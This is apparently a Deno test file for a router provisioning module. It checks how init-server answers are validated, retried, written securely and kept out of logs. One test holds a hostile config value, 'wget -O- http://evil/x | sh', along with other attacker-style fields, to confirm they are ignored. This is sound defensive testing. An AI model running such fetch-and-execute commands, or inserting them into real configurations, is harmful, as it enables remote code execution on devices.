import { assert, assertEquals, assertMatch } from "../../tests/support/assert.ts";
import { tempDir } from "../../tests/support/process.ts";
import type { Clock } from "../io/mod.ts";
import { denoNet, writeFileAtomic } from "../io/mod.ts";
import { memoryLogger } from "../log/logger.ts";
import { validateConfig } from "../config/mod.ts";
import { judgeAnswer, provision, provisionUrl } from "./provision.ts";

const DEVICE = { mac: "02:00:00:00:00:01", machine: "TP-Link Archer C7", firmware: "23.05.3" };
const GOOD = JSON.stringify({ mqtt_host: "broker.example", token: "provisioned-token-1" });

/** A clock whose sleeps end at once, recording how long they would have been. */
function instantClock(): Clock & { slept: number[] } {
  const slept: number[] = [];
  return {
    slept,
    now: () => Date.now(),
    monotonic: () => slept.reduce((a, b) => a + b, 0),
    sleep: (ms) => Promise.resolve(void slept.push(ms)),
  };
}

/** A local init server answering from a script, one answer per request. */
function initServer(answers: (() => Response)[]) {
  const queries: URLSearchParams[] = [];
  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen: () => {} }, (req) => {
    queries.push(new URL(req.url).searchParams);
    return (answers.shift() ?? (() => new Response("gone", { status: 410 })))();
  });
  return { server, queries, url: `http://127.0.0.1:${server.addr.port}/init` };
}

Deno.test("provision: SocketMan's query, and the operator's own query kept", () => {
  const url = provisionUrl("https://init.example/init?fleet=a", DEVICE);
  assertEquals(
    url.search,
    "?fleet=a&mac=02%3A00%3A00%3A00%3A00%3A01&machine=TP-Link+Archer+C7&firmware=23.05.3",
  );
});

Deno.test("provision: answers are judged on status, JSON and the config rules", () => {
  assertEquals(judgeAnswer(500, GOOD), { ok: false, reasons: ["HTTP 500"] });
  assertEquals(judgeAnswer(200, " "), { ok: false, reasons: ["empty answer"] });
  const badJson = judgeAnswer(200, "{ nope");
  assert(!badJson.ok);
  assertMatch(badJson.reasons[0], /invalid JSON at line 1/);
  const badValue = judgeAnswer(201, JSON.stringify({ port: "x", token: 5 }));
  assert(!badValue.ok);
  assertMatch(badValue.reasons.join("; "), /port: got "x"/);
  assertMatch(badValue.reasons.join("; "), /token: got a number/);
  const array = judgeAnswer(200, "[1]");
  assert(!array.ok);
  assert(judgeAnswer(201, GOOD).ok);
});

Deno.test("provision: invalid answers are refused with reasons and retried; a good one is written 0600", async () => {
  await using dir = await tempDir();
  const path = `${dir.path}/config.json`;
  const init = initServer([
    () => new Response("oops", { status: 503 }),
    () => new Response(JSON.stringify({ reboot: "soon" })),
    () => new Response("x".repeat(300 * 1024)),
    () => new Response(GOOD, { status: 201 }),
  ]);
  const clock = instantClock();
  const { log, lines } = memoryLogger("info");
  const written: string[] = [];
  try {
    const result = await provision(init.url, DEVICE, {
      fetch: denoNet.fetch,
      clock,
      log,
      random: () => 0.5,
      write: async (text) => {
        written.push(text);
        await writeFileAtomic(path, text, 0o600);
      },
    });
    assertEquals(result?.config.mqtt_host, "broker.example");
    assertEquals(written, [GOOD], "only the valid answer reached the disk");
    assertEquals(await Deno.readTextFile(path), GOOD);
    assertEquals((await Deno.stat(path)).mode! & 0o777, 0o600);
    assertEquals(init.queries.length, 4);
    assertEquals(init.queries[0].get("mac"), DEVICE.mac);
    assertEquals(init.queries[0].get("machine"), DEVICE.machine);
    assertEquals(init.queries[0].get("firmware"), DEVICE.firmware);
    // Every 15 s, then backing off.
    assertEquals(clock.slept, [15_000, 30_000, 60_000]);
    const refused = lines.filter((l) => l.includes("provisioning answer refused"));
    assertEquals(refused.length, 3);
    assertMatch(refused[0], /HTTP 503/);
    assertMatch(refused[1], /reboot: got \\"soon\\"/);
    assertMatch(refused[2], /answer larger than/);
    assert(!lines.join("\n").includes("provisioned-token-1"), "the token is never logged");
  } finally {
    await init.server.shutdown();
  }
});

Deno.test("provision: stops when its signal aborts, without writing", async () => {
  const init = initServer([]);
  const stop = new AbortController();
  const clock = instantClock();
  const sleep = clock.sleep;
  clock.sleep = (ms) => (stop.abort(), sleep(ms));
  try {
    const result = await provision(init.url, DEVICE, {
      fetch: denoNet.fetch,
      clock,
      log: memoryLogger().log,
      write: () => Promise.reject(new Error("must not write")),
    }, stop.signal);
    assertEquals(result, undefined);
  } finally {
    await init.server.shutdown();
  }
});

Deno.test("provision: random answers never throw, and a refusal always says why", () => {
  const alphabet = '{}[]":,0123456789abc \n\t\\/-tnulfe';
  for (let i = 0; i < 2000; i++) {
    const length = Math.floor(Math.random() * 80);
    const text = Array.from({ length }, () => alphabet[Math.floor(Math.random() * alphabet.length)])
      .join("");
    const answer = judgeAnswer(200, text);
    if (answer.ok) assertEquals(typeof answer.provisioned.config, "object");
    else assert(answer.reasons.length > 0);
  }
});

Deno.test("provision: nothing that runs a program is taken from the init server", () => {
  const local = validateConfig({ reboot_cmd: "/sbin/reboot", mac: "AA" });
  assert(local.ok);
  const answer = judgeAnswer(
    200,
    JSON.stringify({
      token: "t-from-init",
      boot_cmd: "wget -O- http://evil/x | sh",
      recovery_cmd: "/tmp/evil",
      reboot_cmd: "/tmp/evil-reboot",
      jobs: { allow: ["/bin/sh"] },
    }),
    local.config,
  );
  assert(answer.ok);
  const { config, text, warnings } = answer.provisioned;
  assertEquals(config.token, "t-from-init", "the rest is taken");
  assertEquals(config.boot_cmd, undefined);
  assertEquals(config.recovery_cmd, "/etc/init.d/network restart", "the default, not the server's");
  assertEquals(config.reboot_cmd, "/sbin/reboot", "the box's own value");
  assertEquals(config.jobs, {});
  assert(!text.includes("evil"), text);
  assertEquals(warnings.filter((w) => /from the init server ignored/.test(w)), [
    "boot_cmd, recovery_cmd, reboot_cmd, jobs from the init server ignored: the box's own " +
    "values are kept (provisioning never sets what runs, who may, or where files are)",
  ]);
});

Deno.test("provision: an answer can neither drop job_secret nor move the box's files or its control socket's group", () => {
  const local = validateConfig({
    mac: "AA",
    job_secret: "the-box-job-secret",
    control_socket_group: "ledge",
  });
  assert(local.ok);
  const answer = judgeAnswer(
    200,
    JSON.stringify({
      mqtt_host: "broker2.example",
      control_socket_group: "users",
      state_dir: "/tmp/attacker",
      insecure: 1,
    }),
    local.config,
  );
  assert(answer.ok);
  const { config, warnings } = answer.provisioned;
  assertEquals(config.mqtt_host, "broker2.example", "the broker is the server's to set");
  assertEquals(config.job_secret, "the-box-job-secret", "an answer without it keeps it");
  assertEquals(config.control_socket_group, "ledge");
  assertEquals([config.state_dir, config.insecure], ["/etc/ledge/state", false]);
  assertEquals(warnings, [
    "state_dir, job_secret, control_socket_group, insecure from the init server ignored: the " +
    "box's own values are kept (provisioning never sets what runs, who may, or where files are)",
  ]);
});
